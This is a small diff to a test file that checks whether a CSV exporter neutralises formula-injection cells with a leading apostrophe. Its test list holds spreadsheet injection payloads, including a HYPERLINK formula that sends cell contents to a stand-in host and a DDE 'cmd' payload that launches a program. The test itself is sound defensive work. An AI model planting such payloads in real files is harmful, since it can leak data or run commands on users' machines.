@@ -11,7 +11,7 @@ const table = (values: Array<string | number | null | string[]>): Dataset => ({
 const cells = (ds: Dataset) => (parse(toCsv(ds), { bom: true, columns: true, relax_quotes: false }) as Array<Record<string, string>>).map((r) => r.value);
 
 describe('CSV cells that start a formula', () => {
-  const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', '=cmd|\' /C calc\'!A0'];
+  const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', "=cmd|' /C calc'!A0"];
 
   it.each(attacks)('neutralises %j with a leading apostrophe, quoted', (text) => {
     const [value] = cells(table([text]));
